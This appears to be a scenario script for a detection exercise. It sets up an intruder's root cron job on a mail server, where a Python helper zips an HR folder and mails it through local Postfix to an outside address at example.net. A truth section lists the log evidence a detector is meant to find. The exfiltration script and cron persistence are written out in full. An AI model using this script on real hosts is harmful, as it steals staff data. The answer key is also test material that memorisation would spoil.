# A helper beside the real report: Python, over the loopback, through the own server, to an outsider.
title="Root's nightly helper zips the staff folder and submits it over the loopback for an outsider"
what="An intruder with root left /usr/local/sbin/db-housekeep and a line in /etc/cron.d. It zips /opt/hr and submits it with smtplib to 127.0.0.1 port 25, Postfix relays it to a box at example.net. Beside it the real report of the house runs, which mails a colleague with sendmail. The host records commands only."
host=mx1.example.org user=root daemons="cron sshd" audit_rules=audit-exec.rules syslog_format=rfc5424
setup() {
  mkdir -p "$base/out/bin" /opt/hr; for i in 1 2 3; do head -c 500000 /dev/urandom > "/opt/hr/file$i.pdf"; done
  printf '#!/bin/sh\n(printf "To: buyer@example.org\\nSubject: Disk report\\n\\n"; df -h) | /usr/sbin/sendmail -oi -t\n' > "$base/out/bin/disk-report"
  cat > "$base/out/bin/db-housekeep" <<'P'
#!/usr/bin/python3
import smtplib, subprocess, socket
from email.message import EmailMessage
subprocess.run(['zip', '-q', '-r', '/var/tmp/.hk.zip', '/opt/hr'])
m = EmailMessage(); m['From'] = 'postmaster@example.org'; m['To'] = 'm.weber@example.net'; m['Subject'] = 'hk'
m.set_content('.')
m.add_attachment(open('/var/tmp/.hk.zip', 'rb').read(), maintype='application', subtype='zip', filename='hk.zip')
with smtplib.SMTP('127.0.0.1') as s: s.send_message(m)
subprocess.run(['rm', '/var/tmp/.hk.zip'])
P
  install_file "$base/out/bin/disk-report" /usr/local/bin/disk-report
  install_file "$base/out/bin/db-housekeep" /usr/local/sbin/db-housekeep
  printf 'HOME=/\n* * * * * root /usr/local/bin/disk-report\n' > /etc/cron.d/disk-report; chmod 644 /etc/cron.d/disk-report
}
act() {
  small_talk 3
  wait_log 'uid=0 from=<root>' 75
  printf 'HOME=/\n* * * * * root /usr/local/sbin/db-housekeep\n' > /etc/cron.d/db-housekeep; chmod 644 /etc/cron.d/db-housekeep
  wait_log 'm.weber@example.net' 100; sleep 3; rm /etc/cron.d/db-housekeep
  small_talk 2
}
truth() {
  log_step job 'CRON.*db-housekeep' 'cron runs the helper'
  exec_step pack 'zip -q -r /var/tmp/.hk.zip /opt/hr' 'a folder is packed'
  mail_step handed 'client=localhost\[127.0.0.1\]' 'submitted over the loopback'
  mail_step sent 'to=<m.weber@example.net>.*status=sent' 'and relayed outside'
}
